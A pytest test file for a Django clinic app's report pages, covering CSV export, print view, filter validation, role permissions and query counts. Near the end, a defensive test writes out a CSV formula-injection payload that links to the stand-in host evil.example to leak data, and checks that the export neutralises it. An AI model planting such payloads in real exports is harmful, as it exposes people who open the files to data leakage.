"""The report pages: filters, CSV = table, printable view, audit, roles and query counts."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from accounts.models import AuditEvent
from reports.registry import REPORTS
from reports.selectors import operations
from reports.tests.conftest import NOW, filters

pytestmark = pytest.mark.django_db

WEEK_QUERY = {"start": "2026-02-02", "end": "2026-02-08"}

# Per page: session, user, role groups, the audit insert (one statement), the location choices
# (a cursor), the session save (savepoint, update, release), plus the report's own aggregate
# queries: 1 to 8 whatever the number of rows.
BASE_QUERIES = 8
REPORT_QUERIES = {
    "appointments": 1,
    "attendance": 3,
    "utilisation": 2,
    "conversion": 1,
    "inquiries": 4,
    "reminders": 2,
    "compliance": 6,
    "clinical-quality": 1,
    "infusion-safety": 8,
    "takings": 2,  # the deposit slip and the daily rows
    "outstanding": 2,  # the band totals and the patients owing most
    "packages": 2,  # the unused value and the rows
    "fees": 1,
    "revenue": 1,
}


def test_csv_export_matches_the_table(client_as, admin, week):
    section = operations.attendance(filters(), now=NOW)[0]
    response = client_as(admin).get(
        reverse("reports:attendance"), {**WEEK_QUERY, "format": "csv", "table": "attendance-type"}
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    parsed = list(csv.reader(io.StringIO(response.content.decode())))
    assert parsed[0] == [c.label for c in section.columns]
    assert parsed[1:] == [[value for value, _ in cells] for cells in section.display_rows()]
    html = client_as(admin).get(reverse("reports:attendance"), WEEK_QUERY).content.decode()
    for cells in section.display_rows():
        assert "".join(f'<td class="text-end">{v}</td>' if n else f"<td>{v}</td>" for v, n in cells) in html
    assert AuditEvent.objects.filter(action="reports.attendance.exported", verb="export").exists()


def test_unknown_csv_table_is_404(client_as, admin, week):
    response = client_as(admin).get(reverse("reports:attendance"), {**WEEK_QUERY, "format": "csv", "table": "nope"})
    assert response.status_code == 404


def test_printable_view_has_print_css_and_no_navigation(client_as, admin, week):
    response = client_as(admin).get(reverse("reports:utilisation"), {**WEEK_QUERY, "format": "print"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "reports/print.css" in html
    assert "navbar" not in html
    assert "<svg" in html
    assert "Definitions" in html
    assert "2026-02-02 to 2026-02-08" in html
    assert AuditEvent.objects.filter(action="reports.utilisation.viewed", verb="print").exists()


@pytest.mark.parametrize(
    ("query", "field", "message"),
    [
        ({"start": "yesterday"}, "start", "Enter a valid date"),
        ({"start": "2026-02-08", "end": "2026-02-01"}, "end", "before the start"),
        ({"start": "2020-01-01", "end": "2026-02-01"}, "end", "at most 731 days"),
        ({"location": "999999"}, "location", "Select a valid choice"),
        ({"late_cancel_hours": "0"}, "late_cancel_hours", "greater than or equal to 1"),
        ({"start": "9999-12-30", "end": "9999-12-31"}, "end", "between 1900 and 2999"),
        ({"start": "0001-01-01", "end": "0001-01-02"}, "start", "between 1900 and 2999"),
    ],
)
def test_bad_filters_are_field_errors_not_500(client_as, admin, query, field, message):
    response = client_as(admin).get(reverse("reports:attendance"), query)
    assert response.status_code == 400
    assert message in " ".join(response.context["form"].errors[field])
    assert response.context["sections"] == []
    csv_response = client_as(admin).get(reverse("reports:attendance"), {**query, "format": "csv"})
    assert csv_response.status_code == 400  # no export of an invalid filter


def test_the_page_shows_definitions_and_denominators(client_as, admin, week):
    html = client_as(admin).get(reverse("reports:attendance"), WEEK_QUERY).content.decode()
    assert "Due (denominator)" in html
    assert "No-shows ÷ due × 100" in html


def test_clinicians_see_only_the_clinical_quality_reports(client_as, clinician):
    client = client_as(clinician)
    index = client.get(reverse("reports:index")).content.decode()
    assert reverse("reports:clinical-quality") in index
    assert reverse("reports:attendance") not in index
    assert client.get(reverse("reports:clinical-quality")).status_code == 200
    assert client.get(reverse("reports:compliance")).status_code == 403


def test_front_desk_sees_no_report(client_as, frontdesk):
    client = client_as(frontdesk)
    assert client.get(reverse("reports:index")).status_code == 403
    for report in REPORTS:
        assert client.get(reverse(f"reports:{report.slug}")).status_code == 403


@pytest.mark.parametrize("slug", [r.slug for r in REPORTS])
def test_query_count_is_fixed(client_as, admin, week, django_assert_max_num_queries, slug):
    client = client_as(admin)
    client.get(reverse(f"reports:{slug}"), WEEK_QUERY)  # warm the session and permission caches
    with django_assert_max_num_queries(BASE_QUERIES + REPORT_QUERIES[slug]):
        assert client.get(reverse(f"reports:{slug}"), WEEK_QUERY).status_code == 200


@pytest.mark.parametrize("extra", [0, 15])
def test_query_count_does_not_grow_with_the_data(client_as, admin, week, django_assert_max_num_queries, extra):
    from datetime import timedelta

    from reports.tests.conftest import local
    from scheduling.tests.factories import AppointmentFactory, appointment_type

    for i in range(extra):
        start = local(2 + i % 5, 9) + timedelta(minutes=i)
        AppointmentFactory(
            appointment_type=appointment_type("follow_up"), location=week.site, start=start, status="no_show"
        )
    client = client_as(admin)
    client.get(reverse("reports:attendance"), WEEK_QUERY)
    with django_assert_max_num_queries(BASE_QUERIES + REPORT_QUERIES["attendance"]):
        response = client.get(reverse("reports:attendance"), WEEK_QUERY)
    assert "Follow-up" in response.content.decode() or extra == 0


FORMULA = '=HYPERLINK("http://evil.example/?leak","Open")'


def test_csv_formula_injection_a_name_typed_as_a_formula_is_text_in_a_report_csv(client_as, admin, week):
    # Reports carry no patient names; the free text they do carry (type, site and user names) is
    # written through the same neutralising writer as every other export.
    type(week.a1.appointment_type).objects.filter(pk=week.a1.appointment_type_id).update(name=FORMULA)
    response = client_as(admin).get(
        reverse("reports:attendance"), {**WEEK_QUERY, "format": "csv", "table": "attendance-type"}
    )
    parsed = list(csv.reader(io.StringIO(response.content.decode())))
    assert "'" + FORMULA in [row[0] for row in parsed]
    assert not [cell for row in parsed for cell in row if cell[:1] in ("=", "+", "@")]
